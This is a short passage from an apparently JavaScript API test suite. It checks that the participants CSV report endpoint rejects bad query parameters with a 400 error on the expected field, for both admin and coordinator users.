    for (const who of [admin, coordinator.byczyna]) {
      const p = expectProblem(await get(`/v1/reports/participants.csv?${query}`, who), 400);
      assert.equal(firstErrorField(p), field, `${query} as ${who.role}`);
    }
  }
});
